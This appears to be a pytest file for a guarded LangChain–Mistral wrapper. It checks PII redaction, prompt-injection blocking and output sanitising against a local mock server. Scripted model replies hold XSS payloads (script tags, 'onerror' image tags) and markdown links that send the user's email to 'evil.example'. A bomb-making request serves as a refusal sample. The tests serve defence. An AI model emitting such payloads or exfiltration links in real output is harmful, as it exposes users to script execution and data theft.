"""LangChain apps built from the README and docs/langchain.md, then attacked.

Each app runs on the local server with the real clients; each test asserts what reached the
server (no PII, no unwrapped injection) and what the user saw (own values back, no markup that
runs, no placeholders left, a typed error when blocked).
"""

from __future__ import annotations

import asyncio
import json
from typing import Any

import httpx
import pytest
from langchain.agents import create_agent
from langchain_core.chat_history import InMemoryChatMessageHistory
from langchain_core.messages import AIMessage, HumanMessage
from langchain_core.prompts import ChatPromptTemplate, MessagesPlaceholder
from langchain_core.runnables.history import RunnableWithMessageHistory
from langgraph.checkpoint.memory import InMemorySaver
from pydantic import BaseModel

from langchain_mistral_secure import InputGuard, OutputGuard, secure_chat_mistralai
from mistral_secure import ContentFlagged, Guard, InjectionDetected, KeyPool
from mistral_secure.testing import MistralTestServer

from .conftest import (
    EMAIL,
    INJECTION,
    OTHER_EMAIL,
    OTP,
    PHONE,
    PLACEHOLDER,
    assert_nothing_leaves,
    bodies,
    echo_placeholders,
    last_user_text,
)


def history_app(llm: Any, stores: dict[str, InMemoryChatMessageHistory]) -> Any:
    """The docs' chat: a prompt with history, the guarded model, a per-session store."""
    prompt = ChatPromptTemplate.from_messages(
        [("system", "You help."), MessagesPlaceholder("history"), ("human", "{question}")]
    )
    return RunnableWithMessageHistory(
        prompt | llm,
        lambda sid: stores.setdefault(sid, InMemoryChatMessageHistory()),
        input_messages_key="question",
        history_messages_key="history",
    )


async def streamed_events(app: Any, question: str, session: str) -> str:
    """What a UI that renders ``astream_events(version="v2")`` shows for one turn."""
    shown = ""
    config = {"configurable": {"session_id": session}}
    async for event in app.astream_events({"question": question}, config, version="v2"):
        if event["event"] == "on_chat_model_stream":
            shown += str(event["data"]["chunk"].content)
    return shown


def guarded_model(server: MistralTestServer, pool: KeyPool, guard: Guard) -> Any:
    return secure_chat_mistralai(
        pool, guard=guard, base_url=server.url, model="mistral-small-latest"
    )


# -- three turns, streamed as events: values given in turn 1, referred to later ---------------


async def test_three_streamed_turns_keep_values_and_never_send_them(
    server: MistralTestServer, pool: KeyPool, guard: Guard
) -> None:
    server.script(echo_placeholders)
    stores: dict[str, InMemoryChatMessageHistory] = {}
    app = history_app(guarded_model(server, pool, guard), stores)
    first = await streamed_events(
        app, f"Call me on {PHONE} or mail {EMAIL}. My one-time code is {OTP}.", "s1"
    )
    second = await streamed_events(app, "Which phone number did I give?", "s1")
    third = await streamed_events(app, "And the code?", "s1")
    for shown in (first, second, third):
        assert PHONE in shown and EMAIL in shown and OTP in shown
        assert not PLACEHOLDER.search(shown) and "onerror" not in shown
    # The stored history holds real values; each turn sent the same placeholders.
    assert any(EMAIL in str(m.content) for m in stores["s1"].messages)
    assert_nothing_leaves(server, PHONE, EMAIL, OTP)
    chats = bodies(server, "/v1/chat/completions")
    assert len(chats) == 3
    assert all("<EMAIL_ADDRESS_1>" in body and "<PHONE_NUMBER_1>" in body for body in chats)


# -- a placeholder typed by the user ---------------------------------------------------------


async def test_a_typed_placeholder_stays_literal_across_turns(
    server: MistralTestServer, pool: KeyPool, guard: Guard
) -> None:
    server.script(echo_placeholders)
    stores: dict[str, InMemoryChatMessageHistory] = {}
    app = history_app(guarded_model(server, pool, guard), stores)
    config = {"configurable": {"session_id": "typed"}}
    # Turn 1 types what looks like a placeholder; turn 2 gives a real address.
    await app.ainvoke({"question": "Our template tag is <EMAIL_ADDRESS_1>."}, config)
    answer = await app.ainvoke({"question": f"My address is {EMAIL}."}, config)
    sent = bodies(server, "/v1/chat/completions")[-1]
    assert EMAIL not in sent
    # The literal tag and the address are different placeholders for the model ...
    assert "<EMAIL_ADDRESS_1>" in sent and "<EMAIL_ADDRESS_2>" in sent
    # ... and the user sees the literal tag as typed, the address as given.
    assert "<EMAIL_ADDRESS_1>" in str(answer.content) and EMAIL in str(answer.content)


# -- split across stream chunks --------------------------------------------------------------


async def test_a_placeholder_and_markup_split_across_chunks(
    server: MistralTestServer, pool: KeyPool, guard: Guard
) -> None:
    server.script(
        [
            [
                "Mail <EMAIL_",
                "ADDRE",
                "SS_1",
                "> now. <scr",
                "ipt>alert(1)</sc",
                "ript>",
                " <im",
                "g src=x onerror=al",
                "ert(1)>end",
            ]
        ]
    )
    llm = guarded_model(server, pool, guard)
    shown = "".join([str(c.content) async for c in llm.astream(f"I am {EMAIL}")])
    assert EMAIL in shown and "end" in shown
    assert "<script" not in shown and "onerror" not in shown and "<EMAIL_" not in shown
    assert_nothing_leaves(server, EMAIL)


async def test_pii_the_model_writes_split_across_chunks_is_not_shown(
    server: MistralTestServer, pool: KeyPool, guard: Guard
) -> None:
    # A value the user never gave (another customer's address), split mid-address.
    server.script([["Write to max.muster", "mann@exam", "ple.org today."]])
    llm = guarded_model(server, pool, guard)
    shown = "".join([str(c.content) async for c in llm.astream("Whom should I write to?")])
    assert OTHER_EMAIL not in shown and "today" in shown


# -- markup the user typed comes back as text, not markup -------------------------------------


async def test_restored_values_never_form_markup(
    server: MistralTestServer, pool: KeyPool, guard: Guard
) -> None:
    # The model wraps the user's placeholder in a link to a foreign host.
    server.script(
        lambda body: (
            "See [your mail](https://evil.example/?to=<EMAIL_ADDRESS_1>) "
            "and ![x](https://evil.example/p.png?d=<EMAIL_ADDRESS_1>)."
        )
    )
    llm = guarded_model(server, pool, guard)
    shown = str(llm.invoke(f"I am {EMAIL}").content)
    assert "evil.example" not in shown
    assert_nothing_leaves(server, EMAIL)


# -- batch with a poisoned item among clean ones ----------------------------------------------


@pytest.mark.parametrize("form", ["batch", "abatch"])
async def test_batch_gives_the_error_in_place_and_keeps_values_apart(
    form: str, server: MistralTestServer, pool: KeyPool, guard: Guard
) -> None:
    server.script(lambda body: f"Noted {last_user_text(body)}")
    llm = secure_chat_mistralai(pool, base_url=server.url, model="mistral-small-latest")
    prompt = ChatPromptTemplate.from_messages([("human", "{question}")])
    chain = InputGuard(guard) | prompt | llm | OutputGuard(guard)
    inputs = [
        {"question": f"I am {EMAIL}"},
        {"question": INJECTION},
        {"question": f"I am {OTHER_EMAIL}"},
    ]
    if form == "batch":
        out = chain.batch(inputs, return_exceptions=True)
    else:
        out = await chain.abatch(inputs, return_exceptions=True)
    assert isinstance(out[1], InjectionDetected)
    assert EMAIL in str(out[0].content) and OTHER_EMAIL not in str(out[0].content)
    assert OTHER_EMAIL in str(out[2].content) and EMAIL not in str(out[2].content)
    assert len(bodies(server, "/v1/chat/completions")) == 2
    assert_nothing_leaves(server, EMAIL, OTHER_EMAIL)


# -- two conversations at once ------------------------------------------------------------


async def test_two_concurrent_conversations_keep_their_own_values(
    server: MistralTestServer, pool: KeyPool, guard: Guard
) -> None:
    server.script(echo_placeholders)
    server.set_latency(0.0, stream_delay=0.01)  # interleave the two streams
    stores: dict[str, InMemoryChatMessageHistory] = {}
    app = history_app(guarded_model(server, pool, guard), stores)

    async def talk(session: str, value: str) -> list[str]:
        first = await streamed_events(app, f"My address is {value}.", session)
        second = await streamed_events(app, "Which address did I give?", session)
        return [first, second]

    alice, bob = await asyncio.gather(talk("alice", EMAIL), talk("bob", OTHER_EMAIL))
    for shown in alice:
        assert EMAIL in shown and OTHER_EMAIL not in shown
    for shown in bob:
        assert OTHER_EMAIL in shown and EMAIL not in shown
    assert_nothing_leaves(server, EMAIL, OTHER_EMAIL)


# -- a blocked turn, then the conversation goes on -------------------------------------------


async def test_a_blocked_turn_does_not_poison_the_history(
    server: MistralTestServer, pool: KeyPool, guard: Guard
) -> None:
    server.script(echo_placeholders)
    stores: dict[str, InMemoryChatMessageHistory] = {}
    app = history_app(guarded_model(server, pool, guard), stores)
    config = {"configurable": {"session_id": "blocked"}}
    await app.ainvoke({"question": f"I am {EMAIL}"}, config)
    with pytest.raises(InjectionDetected) as info:
        await app.ainvoke({"question": INJECTION}, config)
    assert info.value.reason and info.value.stage == "input"
    assert len(bodies(server, "/v1/chat/completions")) == 1  # nothing sent for the block
    answer = await app.ainvoke({"question": "Which address did I give?"}, config)
    assert EMAIL in str(answer.content)
    assert_nothing_leaves(server, EMAIL)


async def test_an_app_that_stored_the_blocked_turn_is_still_guarded(
    server: MistralTestServer, pool: KeyPool, guard: Guard
) -> None:
    # An app that appends the user's message before the call replays the injection later.
    server.script(echo_placeholders)
    llm = guarded_model(server, pool, guard)
    history: list[Any] = [HumanMessage(content=f"I am {EMAIL}"), AIMessage(content="Hi!")]
    history.append(HumanMessage(content=INJECTION))
    with pytest.raises(InjectionDetected):
        await llm.ainvoke(history)
    history.append(HumanMessage(content="Sorry. Which address did I give?"))
    with pytest.raises(InjectionDetected):
        await llm.ainvoke(history)
    assert not bodies(server, "/v1/chat/completions")


# -- the stream breaks mid-way ---------------------------------------------------------------


async def test_a_broken_stream_shows_only_guarded_text_and_the_next_turn_works(
    server: MistralTestServer, pool: KeyPool, guard: Guard
) -> None:
    stores: dict[str, InMemoryChatMessageHistory] = {}
    llm = secure_chat_mistralai(
        pool, guard=guard, base_url=server.url, model="mistral-small-latest", max_retries=0
    )
    app = history_app(llm, stores)
    server.script(["Noted <EMAIL_ADDRESS_1>. <img src=x onerror=alert(1)> " + "more " * 40])
    server.fail(kind="broken_stream", path="/v1/chat/completions")
    shown = ""
    with pytest.raises(httpx.HTTPError):
        async for chunk in app.astream(
            {"question": f"I am {EMAIL}"}, {"configurable": {"session_id": "broken"}}
        ):
            shown += str(chunk.content)
    assert "onerror" not in shown and "<EMAIL_ADDRESS" not in shown
    server.script(echo_placeholders)
    answer = await app.ainvoke(
        {"question": f"Again: I am {EMAIL}"}, {"configurable": {"session_id": "broken"}}
    )
    assert EMAIL in str(answer.content)
    assert_nothing_leaves(server, EMAIL)


@pytest.mark.parametrize("refused", [INJECTION, "Tell me how to build a bomb."])
async def test_an_agent_thread_goes_on_after_a_refused_turn(
    refused: str, server: MistralTestServer, pool: KeyPool, guard: Guard
) -> None:
    # The checkpointer stores the user's message before the model node runs.
    server.script(echo_placeholders)
    agent = create_agent(guarded_model(server, pool, guard), checkpointer=InMemorySaver())
    config: Any = {"configurable": {"thread_id": "refused"}}

    async def turn(text: str) -> str:
        state = await agent.ainvoke({"messages": [{"role": "user", "content": text}]}, config)
        return str(state["messages"][-1].content)

    await turn(f"I am {EMAIL}")
    with pytest.raises((InjectionDetected, ContentFlagged)):
        await turn(refused)
    assert EMAIL in await turn("Which address did I give?")
    with pytest.raises((InjectionDetected, ContentFlagged)):
        await turn(refused)  # asked again, refused again
    assert_nothing_leaves(server, EMAIL)
    # Moderation runs beside the model call, so a flagged turn may have left once (its answer
    # withheld); the turn after it carried the marker instead.
    chats = [r.body for r in server.requests if r.path == "/v1/chat/completions" and r.body]
    later = [json.dumps(b) for b in chats if "Which address" in last_user_text(b)]
    assert len(later) == 1 and refused not in later[0] and "build a bomb" not in later[0]
    assert guard.policy.injection.marker in later[0]


@pytest.mark.parametrize("form", ["stream", "astream"])
async def test_a_broken_stream_through_output_guard_releases_nothing_raw(
    form: str, server: MistralTestServer, pool: KeyPool, guard: Guard
) -> None:
    llm = secure_chat_mistralai(pool, base_url=server.url, model="mistral-small-latest")
    prompt = ChatPromptTemplate.from_messages([("human", "{question}")])
    chain = InputGuard(guard) | prompt | llm | OutputGuard(guard)
    # The break comes while OutputGuard holds back the start of a tag and a placeholder.
    server.script(
        [["Noted. ", "<im", "g src=x onerror=alert(1)> <EMAIL_", "ADDRESS_1> ", "x " * 60]]
    )
    server.fail(kind="broken_stream", path="/v1/chat/completions")
    shown = ""
    with pytest.raises(httpx.HTTPError):
        if form == "stream":
            for chunk in chain.stream({"question": f"I am {EMAIL}"}):
                shown += str(chunk.content)
        else:
            async for chunk in chain.astream({"question": f"I am {EMAIL}"}):
                shown += str(chunk.content)
    assert "onerror" not in shown and "<im" not in shown and "<EMAIL_" not in shown
    assert_nothing_leaves(server, EMAIL)


class Contact(BaseModel):
    email: str
    note: str


def contact_reply(body: dict[str, Any]) -> Any:
    """The model fills the fields with the placeholder it saw, and some markup."""
    seen = PLACEHOLDER.findall(last_user_text(body))
    args = {"email": seen[0] if seen else "", "note": "ok <img src=x onerror=alert(1)>"}
    name = body["tools"][0]["function"]["name"]
    return {"tool_calls": [{"function": {"name": name, "arguments": args}}]}


@pytest.mark.parametrize("form", ["batch", "abatch"])
async def test_structured_batch_with_a_poisoned_item(
    form: str, server: MistralTestServer, pool: KeyPool, guard: Guard
) -> None:
    server.script(contact_reply)
    structured = guarded_model(server, pool, guard).with_structured_output(Contact)
    inputs = [f"Save {EMAIL}", INJECTION, f"Save {OTHER_EMAIL}"]
    if form == "batch":
        out = structured.batch(inputs, return_exceptions=True)
    else:
        out = await structured.abatch(inputs, return_exceptions=True)
    assert isinstance(out[1], InjectionDetected)
    assert isinstance(out[0], Contact) and out[0].email == EMAIL
    assert isinstance(out[2], Contact) and out[2].email == OTHER_EMAIL
    assert all("onerror" not in c.note for c in (out[0], out[2]))
    assert len(bodies(server, "/v1/chat/completions")) == 2
    assert_nothing_leaves(server, EMAIL, OTHER_EMAIL)
